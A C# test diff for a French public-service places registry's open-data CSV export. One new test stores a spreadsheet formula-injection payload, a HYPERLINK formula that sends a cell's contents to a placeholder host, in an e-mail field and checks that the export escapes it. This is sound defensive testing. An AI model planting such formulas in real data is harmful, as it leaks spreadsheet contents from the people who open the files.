@@ -3,6 +3,7 @@ using System.Text.Json;
 using System.Text.RegularExpressions;
 using ConseillerNumerique.Organization.Places;
 using ConseillerNumerique.TestKit;
+using Microsoft.EntityFrameworkCore;
 
 namespace ConseillerNumerique.Organization.Tests.Places;
 
@@ -90,6 +91,24 @@ internal sealed class OpenDataTests
     }
 
     [Test]
+    public async Task An_e_mail_address_kept_from_before_is_never_a_formula_either()
+    {
+        var place = await _host.AddPublishedPlaceAsync(await _host.AddEmployerAsync("CCAS"), "Bureau");
+        await _host.InOrganizationAsync(db => db.Places.Where(one => one.Id == place)
+            .ExecuteUpdateAsync(change => change.SetProperty(one => one.Emails, "=HYPERLINK(\"http://x/\"&A1)&\"a@b\"")));
+
+        var csv = await _stranger.GetStringAsync("/donnees/lieux.csv");
+
+        Assert.That(csv, Does.Contain(",\"'=HYPERLINK(\"\"http://x/\"\"&A1)&\"\"a@b\"\"\","));
+    }
+
+    [Test]
+    public async Task The_accessibility_sheet_is_under_the_host_of_the_standard() =>
+        Assert.That(
+            (await LinesAsync())[1][Array.IndexOf(Standard.Fields, "fiche_acces_libre")],
+            Is.EqualTo("https://acceslibre.beta.gouv.fr/app/26-crest/a/bibliotheque/erp/mediatheque/"));
+
+    [Test]
     public async Task Says_its_licence_and_answers_with_nothing_to_one_who_has_it()
     {
         using var first = await _stranger.GetAsync(new Uri("/donnees/lieux.csv", UriKind.Relative));
@@ -140,7 +159,7 @@ internal sealed class OpenDataTests
         Phone = "+33475250000",
         Emails = "accueil@exemple.fr|direction@exemple.fr",
         WebSite = "https://exemple.fr/",
-        AccessibilitySheet = "https://acceslibre.beta.gouv.fr/app/26-crest/a/bibliotheque/erp/mediatheque/",
+        AccessibilitySheet = "https://acceslibre.gouv.fr/app/26-crest/a/bibliotheque/erp/mediatheque/",
         AppointmentSite = "https://rdv.exemple.fr/",
         Latitude = 44.728123,
         Longitude = 5.02,
